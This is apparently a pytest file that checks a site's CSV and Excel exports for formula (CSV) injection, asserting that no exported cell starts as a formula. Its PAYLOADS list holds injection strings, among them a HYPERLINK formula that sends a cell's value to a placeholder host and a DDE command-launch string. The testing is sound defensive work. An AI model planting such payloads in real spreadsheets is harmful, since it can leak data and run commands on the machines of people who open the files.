"""No cell of a CSV or .xlsx the site writes is a formula, whatever the data or a
returned sheet carried (OWASP's CSV injection: a cell that starts with = + - @, a tab
or a carriage return is a formula to Excel and LibreOffice)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook

from ketluan.fictional import Scale, dump, generate
from ketluan.index.site_index import build_index
from ketluan.load import validate_text
from ketluan.outputs.blank_sheets import write_sheets
from ketluan.outputs.exports import write_exports

SCALE = Scale(quarters=2, agencies=20, communes=6, tasks_per_quarter=16, documents=10)
PAYLOADS = (
    '=HYPERLINK("http://x.invalid/?"&A2,"Bấm vào đây")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
)  # a tab or a line break never reaches the data: the checker refuses both
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Sheets and exports of a fictional version whose tasks and reports carry formulas."""
    data: dict[str, Any] = yaml.safe_load(dump(generate(SCALE)))
    newest = data["quarters"][-1]
    tasks = [t for s in newest["sections"] for t in _tasks(s)]
    for task, payload in zip(tasks, PAYLOADS, strict=False):
        task["text"] = payload + " " + task["text"]
    for report, payload in zip(newest["reports"], PAYLOADS, strict=False):
        report["note"] = payload
        report["evidence"] = {"symbol": payload}
    dataset = validate_text(yaml.safe_dump(data, allow_unicode=True), "mau.yml")
    index = build_index(dataset)
    out = tmp_path_factory.mktemp("site")
    assert write_sheets(index, out) > 0
    write_exports(index, out, "http://intranet.mau/")
    return out


def _tasks(section: dict[str, Any]) -> list[dict[str, Any]]:
    own = list(section.get("tasks", []))
    return own + [t for s in section.get("sections", []) for t in _tasks(s)]


def test_no_csv_cell_starts_as_a_formula(site: Path) -> None:
    seen = 0
    for path in site.rglob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), (path.name, cell)
                seen += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    assert seen >= len(PAYLOADS)  # the payloads are there, as text


def test_no_xlsx_cell_is_a_formula_and_each_stays_text_when_edited(site: Path) -> None:
    seen = 0
    for path in site.rglob("*.xlsx"):
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (path.name, cell.coordinate)
                        seen += 1
    assert seen >= 1  # a task text starting with "=" is in some agency's sheet
